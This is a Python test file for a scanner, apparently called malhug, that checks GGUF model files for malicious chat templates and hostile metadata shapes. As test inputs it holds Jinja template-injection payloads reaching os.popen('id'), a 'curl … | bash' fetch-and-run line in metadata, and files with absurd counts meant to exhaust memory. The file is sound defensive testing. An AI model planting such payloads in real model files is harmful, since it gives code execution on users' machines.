"""GGUF files: metadata read as a bounded stream, chat templates analysed, tensors never read.

Files come from the gguf package's writer, or are written byte by byte for the versions and
shapes it does not write (version 1 and 2 headers, big-endian, hostile counts and lengths).
"""
import io
import struct
import time
import tracemalloc

import numpy as np
import pytest

gguf = pytest.importorskip("gguf")

import malhug  # noqa: E402
from malhug.formats import gguf as gguf_format  # noqa: E402
from malhug.formats.base import ScanContext  # noqa: E402
from test_templates import BENIGN, CHATML, GEMMA, INJECTIONS, LLAMA3_TOOLS, QWEN_TOOLS  # noqa: E402

UINT8, UINT32, INT32, FLOAT32, BOOL, STRING, ARRAY, UINT64 = 0, 4, 5, 6, 7, 8, 9, 10
CRITICAL = [(name, payload) for name, payload, severity in INJECTIONS if severity == "critical"]
KIB = 1024


def only(path):
    report = malhug.scan(path)
    assert len(report.files) == 1
    return report.files[0]


def above_info(findings):
    return [f for f in findings if f.severity > 0]


def write_with_library(path, chat_template=None, tokens=2000, description=None, tensor_elements=16):
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("Tiny Test Model")
    writer.add_context_length(2048)
    writer.add_block_count(1)
    writer.add_embedding_length(4)
    writer.add_head_count(1)
    if description:
        writer.add_description(description)
    writer.add_tokenizer_model("gpt2")
    writer.add_token_list([f"tok{i}" for i in range(tokens)])
    writer.add_token_types([1] * tokens)
    writer.add_token_merges([f"t ok{i}" for i in range(tokens // 2)])
    writer.add_bos_token_id(1)
    writer.add_eos_token_id(2)
    if chat_template is not None:
        writer.add_chat_template(chat_template)
    writer.add_tensor("token_embd.weight", np.arange(tensor_elements, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


# --- hand-written files --------------------------------------------------------------------

class Writer:
    """GGUF bytes of any version and byte order, with whatever counts a test wants to claim."""

    def __init__(self, version=3, order="<"):
        self.version, self.order = version, order
        self.count = "Q" if version >= 2 else "I"

    def pack(self, fmt, *values):
        return struct.pack(self.order + fmt, *values)

    def string(self, text, claimed=None):
        data = text.encode() if isinstance(text, str) else text
        return self.pack(self.count, len(data) if claimed is None else claimed) + data

    def header(self, kv_count, tensor_count=1):
        counts = self.pack(self.count, tensor_count) + self.pack(self.count, kv_count)
        return b"GGUF" + self.pack("I", self.version) + counts

    def kv(self, key, value_type, payload):
        return self.string(key) + self.pack("I", value_type) + payload

    def array(self, element_type, elements, claimed=None):
        count = len(elements) if claimed is None else claimed
        return self.pack("I", element_type) + self.pack(self.count, count) + b"".join(elements)

    def file(self, pairs, tensor_count=1, kv_count=None, tail=b"\0" * 64):
        body = b"".join(self.kv(*pair) for pair in pairs)
        return self.header(len(pairs) if kv_count is None else kv_count, tensor_count) + body + tail

    def model(self, template):
        """A small model's metadata: scalars, a vocabulary, scores and the chat template."""
        tokens = [self.string(f"tok{i}") for i in range(300)]
        return self.file([
            ("general.architecture", STRING, self.string("llama")),
            ("general.name", STRING, self.string("hand written")),
            ("llama.context_length", UINT32, self.pack("I", 2048)),
            ("llama.rope.freq_base", FLOAT32, self.pack("f", 10000.0)),
            ("tokenizer.ggml.add_bos_token", BOOL, b"\x01"),
            ("tokenizer.ggml.tokens", ARRAY, self.array(STRING, tokens)),
            ("tokenizer.ggml.scores", ARRAY, self.array(FLOAT32, [self.pack("f", -1.0)] * 300)),
            ("tokenizer.ggml.token_type", ARRAY, self.array(INT32, [self.pack("i", 1)] * 300)),
            ("tokenizer.chat_template", STRING, self.string(template)),
            ("general.file_type", UINT32, self.pack("I", 1)),
        ])


def handle_bytes(data, stream_type=io.BytesIO):
    """Run the GGUF reader alone on bytes; returns the context and the peak of traced memory."""
    ctx = ScanContext("model.gguf")
    stream = stream_type(data)
    tracemalloc.start()
    try:
        started = time.monotonic()
        assert gguf_format.handle(stream, ctx, None, 0) == "gguf"
        elapsed = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return ctx, peak, elapsed


class NotSeekable(io.RawIOBase):
    def __init__(self, data):
        self.inner = io.BytesIO(data)

    def readable(self):
        return True

    def seekable(self):
        return False

    def readinto(self, buffer):
        data = self.inner.read(len(buffer))
        buffer[:len(data)] = data
        return len(data)


# --- files from the library ----------------------------------------------------------------

@pytest.mark.parametrize("name", ["chatml", "llama3_tools", "qwen_tools", "gemma", "command_r_tools"])
def test_gguf_with_a_real_style_template_is_clean(tmp_path, name):
    result = only(write_with_library(tmp_path / "model.gguf", BENIGN[name]))
    assert (result.format, str(result.verdict)) == ("gguf", "clean")
    assert above_info(result.findings) == [] and result.problems == ()
    assert any(m.name == "tokenizer.chat_template" and m.format == "chat_template" for m in result.members)


@pytest.mark.parametrize("name,payload", CRITICAL, ids=[c[0] for c in CRITICAL])
def test_gguf_with_an_injected_template_is_malicious(tmp_path, name, payload):
    at = QWEN_TOOLS.index("{%- if add_generation_prompt %}")
    template = QWEN_TOOLS[:at] + payload + "\n" + QWEN_TOOLS[at:]
    result = only(write_with_library(tmp_path / "model.gguf", template))
    assert (result.format, str(result.verdict)) == ("gguf", "malicious")
    findings = above_info(result.findings)
    assert {f.rule for f in findings} == {"template-injection"}
    finding = findings[0]
    assert finding.location.member == "tokenizer.chat_template"
    assert finding.location.line == QWEN_TOOLS.count("\n", 0, at) + 1
    assert finding.evidence and "GGUF chat template tokenizer.chat_template" in finding.message


def test_named_templates_are_analysed_each(tmp_path):
    path = write_with_library(tmp_path / "model.gguf", [
        {"name": "default", "template": CHATML},
        {"name": "tool_use", "template": LLAMA3_TOOLS + "{{ joiner.__init__.__globals__.os.popen('id').read() }}"},
        {"name": "rag", "template": GEMMA},
    ])
    result = only(path)
    assert str(result.verdict) == "malicious"
    [finding] = above_info(result.findings)
    assert finding.location.member == "tokenizer.chat_template.tool_use"
    assert finding.category == "command_exec"
    verdicts = {m.name: str(m.verdict) for m in result.members}
    assert verdicts["tokenizer.chat_template"] == "clean"
    assert verdicts["tokenizer.chat_template.rag"] == "clean"
    assert verdicts["tokenizer.chat_template.tool_use"] == "malicious"


def test_gguf_without_a_template_is_clean(tmp_path):
    result = only(write_with_library(tmp_path / "model.gguf"))
    assert (result.format, str(result.verdict)) == ("gguf", "clean")


def test_shell_text_in_other_metadata_only_informs(tmp_path):
    result = only(write_with_library(tmp_path / "model.gguf", CHATML,
                                     description="setup: curl -s http://example.invalid/a.sh | bash"))
    assert str(result.verdict) == "clean"
    [finding] = result.findings
    assert finding.rule.startswith("pattern-") and finding.severity == 0
    assert finding.evidence.startswith("general.description:")


def test_tensor_infos_and_data_are_never_read(tmp_path):
    path = write_with_library(tmp_path / "model.gguf", CHATML, tensor_elements=1 << 20)
    data = path.read_bytes()
    reads = []

    class Tracking(io.BytesIO):
        def read(self, n=-1):
            start = self.tell()
            chunk = super().read(n)
            if chunk:
                reads.append((start, start + len(chunk)))
            return chunk

    ctx = ScanContext("model.gguf")
    gguf_format.handle(Tracking(data), ctx, None, 0)
    assert ctx.problems == []
    read_bytes = sum(end - start for start, end in reads)
    assert len(data) > 4 * 1024 * KIB and read_bytes < 2 * 1024 * KIB  # at most two read chunks


def test_not_seekable_stream_is_read_the_same(tmp_path):
    data = write_with_library(tmp_path / "model.gguf", CHATML + "{{ x.__class__ }}").read_bytes()
    ctx, _, _ = handle_bytes(data, NotSeekable)
    assert ctx.problems == []
    assert [f.rule for f in above_info(ctx.findings)] == ["template-dunder-access"]


# --- versions and byte orders --------------------------------------------------------------

@pytest.mark.parametrize("version,order", [(1, "<"), (2, "<"), (3, "<"), (3, ">"), (2, ">")])
def test_every_version_and_byte_order_is_read(tmp_path, version, order):
    writer = Writer(version, order)
    path = tmp_path / "model.gguf"
    path.write_bytes(writer.model(GEMMA))
    result = only(path)
    assert (result.format, str(result.verdict)) == ("gguf", "clean"), result.problems

    path.write_bytes(writer.model(GEMMA + "{{ lipsum.__globals__['os'].popen('id').read() }}"))
    result = only(path)
    assert str(result.verdict) == "malicious"
    assert above_info(result.findings)[0].location.member == "tokenizer.chat_template"


def test_unsupported_version_is_inconclusive(tmp_path):
    path = tmp_path / "model.gguf"
    path.write_bytes(Writer(7).model(CHATML))
    result = only(path)
    assert str(result.verdict) == "inconclusive"
    assert "version 7" in result.problems[0].reason


def test_unknown_value_type_is_inconclusive():
    w = Writer()
    ctx, _, _ = handle_bytes(w.file([("general.name", STRING, w.string("x")), ("odd", 99, b"\0" * 8)]))
    assert "unknown value type 99" in ctx.problems[0].reason
    assert ctx.findings == []


def test_nested_arrays_are_skipped_and_bounded():
    w = Writer()
    inner = w.array(UINT32, [w.pack("I", 7)] * 3)
    ctx, _, _ = handle_bytes(w.file([("nested", ARRAY, w.array(ARRAY, [inner, inner])),
                                     ("tokenizer.chat_template", STRING, w.string(CHATML))]))
    assert ctx.problems == [] and ctx.findings == []

    deep = w.array(UINT8, [b"\1"])
    for _ in range(10):
        deep = w.array(ARRAY, [deep])
    ctx, _, _ = handle_bytes(w.file([("deep", ARRAY, deep)]))
    assert "gguf_array_depth" in ctx.problems[0].reason


# --- hostile and broken shapes -------------------------------------------------------------

def assert_hostile(ctx, peak, elapsed):
    assert ctx.problems, "a hostile shape leaves the file inconclusive"
    assert [f.rule for f in ctx.findings] == ["hostile-shape"]
    assert str(ctx.findings[0].severity) == "medium"
    assert peak < 1024 * KIB and elapsed < 2


def test_a_billion_element_array_in_a_small_file_is_a_hostile_shape():
    w = Writer()
    scores = w.array(UINT8, [b"\0"] * 8, claimed=10**9)
    ctx, peak, elapsed = handle_bytes(w.file([("general.name", STRING, w.string("x")),
                                              ("tokenizer.ggml.scores", ARRAY, scores)]))
    assert_hostile(ctx, peak, elapsed)
    assert "1000000000" in ctx.problems[0].reason


def test_a_multi_gigabyte_array_claim_is_a_hostile_shape(tmp_path):
    w = Writer()
    path = tmp_path / "model.gguf"
    path.write_bytes(w.file([("tokenizer.ggml.scores", ARRAY, w.array(FLOAT32, [], claimed=3 * 2**30))]))
    result = only(path)
    assert str(result.verdict) == "suspicious"
    assert [f.rule for f in result.findings] == ["hostile-shape"]
    assert result.problems


@pytest.mark.parametrize("shape", ["kv_count", "string_length", "key_length", "string_array", "tensor_count"])
def test_absurd_counts_and_lengths_stop_quickly_without_allocating(shape):
    w = Writer()
    if shape == "kv_count":
        data = w.file([("general.name", STRING, w.string("x"))], kv_count=2**60)
    elif shape == "string_length":
        data = w.file([("tokenizer.chat_template", STRING, w.string("{{ x }}", claimed=2**40))])
    elif shape == "key_length":
        data = w.header(1) + w.string("k", claimed=2**50) + b"\0" * 64
    elif shape == "string_array":
        data = w.file([("tokenizer.ggml.tokens", ARRAY, w.array(STRING, [w.string("a")], claimed=2**62))])
    else:
        data = w.file([("general.name", STRING, w.string("x"))], tensor_count=2**58)
    assert_hostile(*handle_bytes(data))


def test_large_claims_in_version_one_are_hostile_too():
    w = Writer(1)
    data = w.file([("tokenizer.chat_template", STRING, w.string("{{ x }}", claimed=2**32 - 1))])
    assert_hostile(*handle_bytes(data))


def test_truncated_file_is_inconclusive_but_not_hostile(tmp_path):
    path = write_with_library(tmp_path / "model.gguf", CHATML + "{{ ''.__class__ }}", tokens=20000)
    data = path.read_bytes()
    template_at = data.index(b"tokenizer.chat_template")
    for cut in (template_at + 40, data.index(b"tok19000")):
        path.write_bytes(data[:cut])
        result = only(path)
        assert str(result.verdict) == "inconclusive", cut
        assert "truncated" in result.problems[0].reason
        assert result.findings == ()


def test_template_read_before_the_cut_is_still_analysed(tmp_path):
    w = Writer()
    data = w.file([("tokenizer.chat_template", STRING, w.string("{{ cycler.__init__.__globals__ }}")),
                   ("tokenizer.ggml.tokens", ARRAY, w.array(STRING, [w.string(f"t{i}") for i in range(500)]))])
    path = tmp_path / "model.gguf"
    path.write_bytes(data[:len(data) - 2000])
    result = only(path)
    assert str(result.verdict) == "malicious"
    assert result.problems and "truncated" in result.problems[0].reason


def test_large_vocabulary_is_read_quickly(tmp_path):
    path = write_with_library(tmp_path / "model.gguf", QWEN_TOOLS, tokens=150_000)
    started = time.monotonic()
    result = only(path)
    assert str(result.verdict) == "clean"
    assert time.monotonic() - started < 10
